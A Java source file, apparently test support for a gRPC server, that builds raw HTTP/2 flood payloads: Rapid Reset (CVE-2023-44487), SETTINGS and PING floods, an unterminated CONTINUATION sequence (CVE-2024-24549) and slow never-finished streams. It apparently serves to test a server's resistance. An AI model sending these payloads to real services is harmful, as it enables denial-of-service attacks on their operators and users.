package io.pyserver.fire;

import java.util.function.IntFunction;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/**
 * What a client may send over HTTP/2 at almost no cost, again and again. A character is
 * one byte (ISO 8859-1).
 */
enum Http2Flood {

	/** CVE-2023-44487. */
	RAPID_RESET((i) -> Frame.headers(i, Frame.END_STREAM | Frame.END_HEADERS, "\u0082")
			+ Frame.of(3, 0, Frame.stream(i), "\0\0\0\u0008")),

	SETTINGS((_) -> Frame.of(4, 0, 0, "")),

	PINGS((_) -> Frame.of(6, 0, 0, "\0".repeat(8))),

	/** CVE-2024-24549: headers without an end. */
	CONTINUATION((i) -> (i == 0) ? Frame.headers(0, Frame.END_STREAM, "\u0082")
			: Frame.of(9, 0, Frame.stream(0), "\0\u0001a\u0064" + "a".repeat(100))),

	/**
	 * More than the service takes on one connection, each with a body that never comes.
	 */
	SLOW_STREAMS((i) -> (i < 20) ? Frame.headers(i, Frame.END_HEADERS, "\u0083") : "");

	private static final int FRAMES = 2_000;

	private final String bytes;

	Http2Flood(IntFunction<String> frame) {
		this.bytes = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + Frame.of(4, 0, 0, "")
				+ IntStream.range(0, FRAMES).mapToObj(frame).collect(Collectors.joining());
	}

	String bytes() {
		return this.bytes;
	}

	/** Frames as RFC 9113 has them. */
	private static final class Frame {

		static final int END_STREAM = 1;

		static final int END_HEADERS = 4;

		/**
		 * A request for the health service, its method by its number in HPACK's table.
		 */
		static String headers(int request, int flags, String method) {
			String path = "/grpc.health.v1.Health/Check";
			return of(1, flags, stream(request), method + "\u0086\u0004" + (char) path.length() + path
					+ "\u0041\u0001x\u005f\u0010application/grpc");
		}

		static int stream(int request) {
			return 2 * request + 1;
		}

		static String of(int type, int flags, int stream, String payload) {
			return "" + (char) (payload.length() >> 16) + (char) (payload.length() >> 8 & 0xff)
					+ (char) (payload.length() & 0xff) + (char) type + (char) flags + (char) (stream >> 24)
					+ (char) (stream >> 16 & 0xff) + (char) (stream >> 8 & 0xff) + (char) (stream & 0xff) + payload;
		}

	}

}
